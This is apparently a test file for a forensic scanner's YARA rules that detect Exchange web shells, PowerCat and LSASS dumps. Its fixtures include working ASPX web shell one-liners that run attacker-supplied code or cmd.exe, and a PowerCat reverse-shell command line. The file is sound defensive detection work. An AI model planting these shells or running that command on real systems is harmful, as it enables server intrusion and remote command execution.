import { describe, expect, it } from 'vitest';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { IssueCollector } from '../core/index.js';
import type { KahuEvent } from '../model/index.js';
import { builtinYaraDir, compileYaraFiles, findYaraFiles, scanBuffer, yaraDetector, yaraDetectors } from './index.js';

const dir = mkdtempSync(join(tmpdir(), 'kahu-yara-'));
const issues = new IssueCollector();
const rules = compileYaraFiles(findYaraFiles([builtinYaraDir()], issues), issues);
const target = { evidenceId: 'e1', path: 'x.aspx', time: null, host: null };
const ruleIds = (b: Buffer): string[] => scanBuffer(b, target, rules).map((f) => f.rule.id).sort();

function pst(body: string): Buffer {
  const head = Buffer.alloc(512);
  head.write('!BDN', 0, 'latin1');
  return Buffer.concat([head, Buffer.from(body, 'latin1'), Buffer.alloc(256)]);
}
function certReq(body: string): Buffer {
  return Buffer.concat([Buffer.from([0x30, 0x82, 0x04, 0x10, 0x30, 0x82]), Buffer.alloc(64), Buffer.from(body, 'latin1')]);
}
function minidump(module: string): Buffer {
  const head = Buffer.alloc(128);
  head.write('MDMP', 0, 'latin1');
  return Buffer.concat([head, Buffer.from(`C:\\Windows\\System32\\${module}`, 'utf16le'), Buffer.alloc(64)]);
}

describe('Kahu YARA rules (content/yara) with YARA-X', () => {
  it('compile without issues', () => {
    expect(issues.all()).toEqual([]);
    expect(rules.sites.size).toBeGreaterThanOrEqual(8);
  });
  it('China Chopper one-liners: page form and the virtual-directory script form', () => {
    expect(ruleIds(Buffer.from('<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>'))).toEqual([
      'yara:KAHU_WebShell_ChinaChopper_OneLiner',
    ]);
    const vdir =
      'Name : OAB (Default Web Site)\r\nInternalUrl : https://mail.corp.local/OAB\r\nInternalAuthenticationMethods : {WindowsIntegrated}\r\n' +
      'ExternalUrl : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>\r\n';
    expect(ruleIds(Buffer.from(vdir))).toEqual(['yara:KAHU_WebShell_ChinaChopper_OneLiner', 'yara:KAHU_WebShell_OAB_VirtualDirectory_Dump']);
  });
  it('ProxyShell PST- and certificate-request-headed .aspx', () => {
    const shell = '<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>';
    expect(ruleIds(pst(shell))).toContain('yara:KAHU_WebShell_PST_Headed_ASPX');
    expect(ruleIds(certReq(shell))).toContain('yara:KAHU_WebShell_CertRequest_Headed_ASPX');
    // A real PST without script, and a certificate request without script, are not web shells.
    expect(ruleIds(pst('Inbox Sent Items From: alice@corp.local Subject: Q3 figures'))).toEqual([]);
    expect(ruleIds(certReq('CN=mail.corp.local, O=Corp'))).toEqual([]);
  });
  it('ASPXSpy-like shell, upload stub, PowerCat, LSASS minidump', () => {
    const spy =
      '<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);' +
      ' foreach (var f in System.IO.Directory.GetFiles(Request.Form["d"])) {} System.IO.File.Delete(Request.Form["x"]); %>';
    expect(ruleIds(Buffer.from(spy))).toEqual(['yara:KAHU_WebShell_ASPXSpy_Like']);
    expect(ruleIds(Buffer.from('<%@ Page Language="C#" %><% Request.Files[0].SaveAs(Server.MapPath("x")); %>'))).toEqual([
      'yara:KAHU_WebShell_Upload_Stub',
    ]);
    expect(ruleIds(Buffer.from('function powercat { param($c) } powercat -c 10.0.0.1 -p 443 -e cmd'))).toEqual(['yara:KAHU_Tool_PowerCat_Nishang']);
    expect(ruleIds(minidump('lsass.exe'))).toEqual(['yara:KAHU_Dump_LSASS_Minidump']);
    expect(ruleIds(minidump('notepad.exe'))).toEqual([]);
  });
  it('a shipped-style OWA page does not match', () => {
    const logon =
      '<%@ Page Language="C#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\n<html><body><form action="/owa/auth.owa" method="POST"></form></body></html>';
    expect(ruleIds(Buffer.from(logon))).toEqual([]);
  });
  it('findings carry file, offset, rule site, ATT&CK technique and software tags', () => {
    const [f] = scanBuffer(Buffer.from('xx<%@ Page Language="Jscript"%><%eval(Request.Item["a"],"unsafe");%>'), target, rules);
    expect(f?.engine).toBe('yara');
    expect(f?.attack).toEqual(['T1505.003']);
    expect(f?.tags).toContain('attack.s0020');
    expect(f?.rule.file).toMatch(/exchange-webshells\.yar$/);
    expect(f?.rule.line).toBeGreaterThan(1);
    expect(f?.events[0]?.prov).toEqual({ evidenceId: 'e1', path: 'x.aspx', locator: { offset: 11 } });
  });
});

describe('YARA adapter', () => {
  it('a rule file that does not compile is a located issue; the good files still load', () => {
    const bad = join(dir, 'bad.yar');
    writeFileSync(bad, 'rule ok_rule { condition: true }\n\nrule broken {\n  condition: nosuchthing\n}\n');
    const good = join(dir, 'good.yar');
    writeFileSync(good, 'rule kahu_test_marker { strings: $a = "MARKER-123" condition: $a }\n');
    const iss = new IssueCollector();
    const rs = compileYaraFiles([bad, good], iss);
    expect(iss.issues).toHaveLength(1);
    expect(iss.issues[0]).toMatchObject({ code: 'rule-invalid', severity: 'error', location: { path: bad, line: 4 } });
    expect(scanBuffer(Buffer.from('..MARKER-123..'), target, rs).map((f) => f.rule.id)).toEqual(['yara:kahu_test_marker']);
  });
  it('the detector asks for the bytes of unrecognised files (any path, zip entries too) and scans what it is given', () => {
    const shell = Buffer.from('<%@ Page Language="Jscript"%><%eval(Request.Item["a"],"unsafe");%>');
    const path = `${dir}/a.zip!/C/inetpub/wwwroot/aspnet_client/shell.aspx`;
    const event: KahuEvent = { time: 5, host: null, source: 'file', fields: { Path: path }, prov: { evidenceId: 'e1.3', path, locator: { offset: 0 } } };
    const d = yaraDetector(rules, { maxBytes: 1000 });
    const iss = new IssueCollector();
    expect(d.wantsFile?.({ path, format: 'unrecognised', size: shell.length })).toBe(1000);
    expect(d.wantsFile?.({ path, format: 'iis-w3c', size: shell.length })).toBe(0);
    expect(yaraDetector(rules, { formats: [] }).wantsFile?.({ path, format: 'iis-w3c', size: 1 })).toBeGreaterThan(0);
    const [f, ...rest] = d.onFile?.({ event, data: shell, size: shell.length }, iss) ?? [];
    expect(rest).toEqual([]);
    expect(f?.events[0]?.prov).toEqual({ evidenceId: 'e1.3', path, locator: { offset: shell.indexOf('Language=') } });
    expect(f?.detail).toMatchObject({ file: path, offset: 9, rule: 'KAHU_WebShell_ChinaChopper_OneLiner' });
    expect(f?.first).toBe(5);
    // Over the cap the scan hands no bytes: an info issue names the file, nothing is scanned.
    expect(d.onFile?.({ event, data: null, size: 5000 }, iss)).toEqual([]);
    expect(iss.issues).toEqual([expect.objectContaining({ code: 'io', severity: 'info', location: { path } })]);
    expect(iss.issues[0]?.message).toMatch(/not YARA-scanned: 5000-byte file exceeds the 1000-byte/);
    expect(yaraDetectors({ ruleDirs: [], builtinRules: true }, iss)).toHaveLength(1);
  });
});
